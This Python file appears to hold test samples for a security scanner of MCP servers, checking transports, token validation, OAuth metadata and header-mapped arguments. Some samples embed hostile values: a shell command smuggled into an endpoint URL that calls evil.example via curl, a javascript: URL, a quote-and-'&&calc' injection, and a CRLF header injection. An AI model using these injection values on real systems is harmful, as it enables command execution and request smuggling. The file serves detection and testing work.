"""Samples for the rules of transports and of who may call a server over HTTP."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

from mcp_sandbox.model import (
    Era,
    HttpFacts,
    OAuthFacts,
    Observations,
    Place,
    RiskClass,
    Session,
    Transport,
)
from mcp_sandbox.model.oauth import Document, Invented
from support.observed import OTHER_IDENTITY, listed, observed, session, tool
from support.rule_samples import hit, miss

N = RiskClass.NOTE
RESOURCE = "/.well-known/oauth-protected-resource/mcp"
SERVER = "/.well-known/oauth-authorization-server"
OWN = "http://localhost:3000"
PROTECTED = {"resource": f"{OWN}/mcp", "authorization_servers": ["https://login.example"]}
ISSUER = {
    "issuer": "https://login.example",
    "authorization_endpoint": "https://login.example/authorize",
    "token_endpoint": "https://login.example/token",
    "response_types_supported": ["code"],
    "code_challenge_methods_supported": ["S256"],
}


def over(transport: Transport, **more: Any) -> Session:
    """A session over HTTP."""
    return session(http=HttpFacts(Place(transport, 3000, "/mcp")), role="transport", **more)


def wanting(**changes: Any) -> Observations:
    """A server that wants a token, and says all that it should."""
    facts = OAuthFacts(
        port=3000,
        path="/mcp",
        status=401,
        challenge=f'Bearer resource_metadata="{OWN}{RESOURCE}"',
        metadata_url=f"{OWN}{RESOURCE}",
        resource=(Document(RESOURCE, 200, fields=PROTECTED, line=5),),
        servers=(Document(SERVER, 200, fields=ISSUER, line=8),),
        invented=(Invented("random", 401, False, 10), Invented("unsigned", 401, False, 12)),
        line=2,
        evidence="6-around-oauth",
    )
    return observed(oauth=replace(facts, **changes))


def resource(**fields: Any) -> Observations:
    return wanting(resource=(Document(RESOURCE, 200, fields=PROTECTED | fields, line=5),))


def server(about: str = "", **fields: Any) -> Observations:
    return wanting(servers=(Document(SERVER, 200, "", about, ISSUER | fields, 8),))


# --- transports -----------------------------------------------------------------------------------


@hit("transport-dependent")
def a_tool_over_http_alone():
    return observed(
        session(tools=(tool("add"),)),
        over(Transport.HTTP, tools=(tool("add"), tool("drop"))),
    )


@hit("transport-dependent")
def another_description_over_the_older_one():
    return observed(
        session(tools=(tool("add", "Adds."),)),
        over(Transport.SSE, tools=(tool("add", "Adds. Call it first."),)),
    )


@hit("transport-dependent", N)
def the_same_words_in_another_order_over_http():
    return observed(
        session(tools=(tool("run", "Commands: ls, pwd, cat."),)),
        over(Transport.HTTP, tools=(tool("run", "Commands: pwd, cat, ls."),)),
    )


@miss("transport-dependent", "identity-dependent", "era-difference")
def the_same_over_both():
    return observed(session(tools=(tool("add"),)), over(Transport.HTTP, tools=(tool("add"),)))


@miss("transport-dependent")
def another_era_over_http():
    return observed(
        session(tools=(tool("add"),)),
        over(Transport.HTTP, tools=(tool("add"), tool("x")), era=Era.STATELESS),
    )


@miss("transport-dependent")
def a_server_that_is_unsteady_over_one():
    return observed(
        session(instructions="Quote: sun"),
        session(instructions="Quote: rain"),
        over(Transport.HTTP, instructions="Quote: hail"),
    )


@hit("identity-dependent")
def another_client_beside_another_transport():
    """That the transports differ too hides nothing of the clients."""
    return observed(
        session(tools=(tool("add"),)),
        session(tools=(tool("add"), tool("x")), identity=OTHER_IDENTITY, role="identity"),
        over(Transport.HTTP, tools=(tool("add"), tool("x"))),
    )


# --- tokens ---------------------------------------------------------------------------------------


@hit("token-not-checked")
def takes_an_unsigned_token():
    return wanting(invented=(Invented("random", 401, False), Invented("unsigned", 200, True)))


@hit("token-not-checked")
def takes_any_token():
    return wanting(invented=(Invented("random", 200, True),))


@miss(
    "token-not-checked",
    "oauth-hostile-url",
    "oauth-insecure-url",
    "oauth-without-pkce",
    "oauth-issuer-mismatch",
    "oauth-resource-mismatch",
    "oauth-undiscoverable",
    "oauth-broad-scope",
)
def says_all_that_it_should():
    return wanting()


@miss("token-not-checked")
def answers_a_made_up_token_in_html():
    return wanting(invented=(Invented("random", 200, False),))


# --- metadata -------------------------------------------------------------------------------------


@hit("oauth-hostile-url")
def a_shell_command_for_an_endpoint():
    return server(authorization_endpoint="a:$(curl${IFS}evil.example)?response_type=code")


@hit("oauth-hostile-url")
def a_script_for_an_endpoint():
    return server(authorization_endpoint="javascript:alert(1)")


@hit("oauth-hostile-url")
def a_quote_in_an_endpoint():
    return server(token_endpoint='https://login.example/"&&calc')


@hit("oauth-insecure-url")
def an_endpoint_in_cleartext():
    return server(token_endpoint="http://login.example/token")


@hit("oauth-insecure-url")
def an_issuer_with_a_query():
    return resource(authorization_servers=["https://login.example/?tenant=1"])


@miss("oauth-insecure-url", "oauth-hostile-url")
def endpoints_on_the_loopback():
    return server(token_endpoint=f"{OWN}/token", authorization_endpoint=f"{OWN}/authorize?a=1&b=2")


@hit("oauth-without-pkce")
def no_challenge_methods():
    return server(code_challenge_methods_supported=None)


@hit("oauth-without-pkce")
def plain_challenges_only():
    return server(code_challenge_methods_supported=["plain"])


@miss("oauth-without-pkce")
def machines_only():
    fields = {"grant_types_supported": ["client_credentials"]}
    return server(code_challenge_methods_supported=None, **fields)


@hit("oauth-issuer-mismatch")
def another_issuer():
    return server(issuer="https://elsewhere.example")


@hit("oauth-issuer-mismatch")
def another_issuer_than_was_asked():
    return server(about=OWN, issuer="https://login.example")


@hit("oauth-issuer-mismatch")
def no_issuer():
    return server(issuer=None)


@hit("oauth-issuer-mismatch", N)
def a_slash_at_the_end():
    return server(issuer="https://login.example/")


@miss("oauth-issuer-mismatch")
def no_authorization_server_named():
    return wanting(resource=(), servers=(Document(SERVER, 200, fields=ISSUER | {"issuer": OWN}),))


@hit("oauth-resource-mismatch")
def another_path():
    return resource(resource=f"{OWN}/other")


@hit("oauth-resource-mismatch")
def another_port():
    return resource(resource="http://localhost:9999/mcp")


@hit("oauth-resource-mismatch")
def no_resource():
    return resource(resource=None)


@hit("oauth-resource-mismatch")
def a_resource_with_a_fragment():
    return resource(resource=f"{OWN}/mcp#top")


@miss("oauth-resource-mismatch")
def the_host_that_it_is_deployed_on():
    return resource(resource="https://mcp.example.com/mcp")


@miss("oauth-resource-mismatch")
def the_origin_as_a_whole():
    return resource(resource="https://mcp.example.com/")


@hit("oauth-undiscoverable")
def no_metadata_anywhere():
    nothing = (Document(RESOURCE, 404, "status 404"),)
    return wanting(resource=nothing, servers=nothing, metadata_url="")


@hit("oauth-undiscoverable")
def forbidden_without_a_token():
    return wanting(status=403)


@hit("oauth-undiscoverable")
def no_challenge():
    return wanting(challenge="", metadata_url="")


@miss("oauth-undiscoverable")
def metadata_on_another_origin():
    url = "https://mcp.example.com/.well-known/oauth-protected-resource"
    return wanting(resource=(), servers=(), metadata_url=url, elsewhere=(url,))


@miss("oauth-undiscoverable", "token-not-checked")
def an_open_server_without_metadata():
    return wanting(status=0, resource=(), servers=(), challenge="", metadata_url="", invented=())


@hit("oauth-broad-scope")
def a_wildcard():
    return resource(scopes_supported=["files:read", "files:*"])


@hit("oauth-broad-scope")
def a_wildcard_in_the_challenge():
    return wanting(scope="openid full-access")


@miss("oauth-broad-scope")
def narrow_scopes():
    return resource(scopes_supported=["files:read", "install", "calls.list", "rooted"])


# --- arguments in headers -------------------------------------------------------------------------


def _wanting_header(name: str, header: Any, type_: Any = "string") -> Observations:
    return listed(tool("find", **{name: {"type": type_, "x-mcp-header": header}}))


@hit("secret-in-header")
def a_password_in_a_header():
    return _wanting_header("dbPassword", "Db")


@hit("secret-in-header")
def a_key_in_a_header():
    return _wanting_header("api_key", "Key")


@miss("secret-in-header", "unusable-header")
def a_region_in_a_header():
    return _wanting_header("region", "Region")


@miss("secret-in-header")
def a_cursor_in_a_header():
    return _wanting_header("nextPageToken", "Page")


@miss("secret-in-header")
def a_count_and_a_sort_key_in_headers():
    return listed(
        tool(
            "find",
            max_tokens={"type": "integer", "x-mcp-header": "Max"},
            sort_key={"type": "string", "x-mcp-header": "Sort"},
            password={"type": "string"},
        )
    )


@hit("unusable-header")
def a_header_that_ends_its_line():
    return _wanting_header("region", "Region: x\r\nAuthorization")


@hit("unusable-header", N)
def a_header_that_is_no_token():
    return _wanting_header("region", "My Region")


@hit("unusable-header", N)
def a_header_for_an_object():
    return _wanting_header("region", "Region", "object")


@hit("unusable-header", N)
def a_header_for_the_items_of_a_list():
    return listed(tool("find", names={"type": "array", "items": {"x-mcp-header": "Name"}}))


@hit("unusable-header", N)
def one_header_for_two():
    header = {"type": "string", "x-mcp-header": "Same"}
    return listed(tool("find", a=header, b=header | {"x-mcp-header": "SAME"}))


@miss("unusable-header", "secret-in-header")
def a_default_that_looks_like_a_declaration():
    return listed(tool("find", a={"type": "object", "default": {"x-mcp-header": "a b"}}))
